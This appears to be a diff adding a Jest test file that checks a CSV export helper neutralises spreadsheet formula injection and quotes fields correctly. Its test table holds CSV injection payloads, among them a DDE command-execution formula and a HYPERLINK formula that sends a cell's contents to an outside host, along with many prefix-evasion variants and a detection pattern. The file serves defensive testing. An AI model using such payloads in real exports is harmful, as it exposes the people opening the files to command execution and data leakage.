@@ -1,0 +1,76 @@
+import { describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import { csvRecord, harmlessText } from '../../gateway/request/exports/csv.ts';
+
+/* CSV that no spreadsheet calculates (OWASP, "CSV Injection"), and that every reader of RFC 4180 reads. */
+
+/** Texts that a spreadsheet would take for a formula, or whose parts it would where it splits cells otherwise. */
+const INJECTIONS: Readonly<Record<string, string>> = {
+  equals: '=1+1',
+  plus: '+1+1',
+  minus: '-2+3',
+  at: '@SUM(1,1)',
+  'a command': "=cmd|' /C calc'!A0",
+  'a minus and a command': "-2+3+cmd|' /C calc'!A0",
+  'a link': '=HYPERLINK("http://example.gov?x="&A1,"more")',
+  'a tab': '\t=1+1',
+  'a carriage return': '\r=1+1',
+  'a line feed': '\n=1+1',
+  blanks: '   =1+1',
+  'a blank that does not break': '\u00a0=1+1',
+  'a blank without width': '\u200b=1+1',
+  'a mark of byte order': '\ufeff=1+1',
+  'a control': '\u0001=1+1',
+  'full-width equals': '＝1+1',
+  'full-width plus': '＋1+1',
+  'full-width minus': '－1+1',
+  'full-width at': '＠SUM(1)',
+  'small equals': '﹦1+1',
+  'a minus sign': '−1+1',
+  'a telephone number': '+12025550100',
+  'a negative number written as a text': '-5',
+};
+/** Texts in which another program would see a cell begin: the file is split by commas, and not every reader does. */
+const WITHIN: Readonly<Record<string, string>> = {
+  'after a semicolon': 'a;=1+1',
+  'after a semicolon and a quote': 'a;"=1+1',
+  'after a tab': 'a\t@SUM(1)',
+  'after a line': 'a\r\n=1+1',
+  'after a line and blanks': 'a\n  +1',
+};
+const BEGINS_A_FORMULA = /(?:^|[;\t\r\n])[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦−]/u;
+
+describe('a text', () => {
+  it.each(Object.entries({ ...INJECTIONS, ...WITHIN }))('is no formula: %s', (_, text) => {
+    expect(text).toMatch(BEGINS_A_FORMULA);
+    expect(harmlessText(text)).not.toMatch(BEGINS_A_FORMULA);
+    const [[cell, other] = []]: string[][] = parse(csvRecord([text, 'beside']));
+    expect([cell, other]).toEqual([harmlessText(text), 'beside']);
+  });
+
+  it.each([
+    '',
+    'plain',
+    'IQ-2026-0000000001',
+    'a-b',
+    'a=b',
+    'x@example.gov',
+    'a; b',
+    'it said "no", and left',
+    '2026-01-31',
+    "'quoted'",
+  ])('that is harmless stays as it is: %s', (text) => {
+    const [[cell] = []]: string[][] = parse(csvRecord([text, 'beside']));
+    expect(cell).toBe(text);
+  });
+});
+
+describe('a record', () => {
+  it('keeps what is a number or a truth value as it is', () => {
+    expect(csvRecord([-5, 0, 1.5, true, false, null])).toBe('-5,0,1.5,true,false,\r\n');
+  });
+
+  it('quotes what would end a field or a record', () => {
+    expect(csvRecord(['a,b', 'a"b', 'a\nb', ' a'])).toBe('"a,b","a""b","a\nb"," a"\r\n');
+  });
+});
